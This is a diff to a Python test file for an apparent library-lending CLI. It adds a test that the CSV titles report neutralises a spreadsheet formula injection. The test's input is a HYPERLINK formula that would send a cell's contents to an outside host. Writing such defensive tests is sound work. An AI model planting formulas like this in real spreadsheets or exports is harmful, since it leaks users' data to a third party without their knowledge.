@@ -7,7 +7,7 @@ from typing import Any
 
 import pytest
 
-from tests.server.policy.conftest import Lending, lend, renew, take
+from tests.server.policy.conftest import Lending, lend, rename, renew, take
 
 SPRING = ("--library", "KAL", "--until", "2026-04-30", "--months", "3")
 
@@ -55,6 +55,13 @@ def test_a_table_and_csv(spring: Lending) -> None:
         ["KAL", "1", "2", "Pan", "Hamsun, Knut", ""],
     ]
     assert spring.at.skranke("report", "interlibrary", *SPRING).out == "Interlibrary loans: none\n"
+
+
+def test_a_title_is_no_formula_in_a_spreadsheet(spring: Lending) -> None:
+    title = '=HYPERLINK("http://example.org/?"&A1;"Sult")'
+    rename(spring.at, "Pan", title)
+    titles = spring.at.skranke("report", "titles", "--csv", "--top", "1", *SPRING)
+    assert list(csv.reader(StringIO(titles.out)))[1] == ["KAL", "1", "2", f"'{title}", "Hamsun, Knut", ""]
 
 
 @pytest.mark.parametrize(
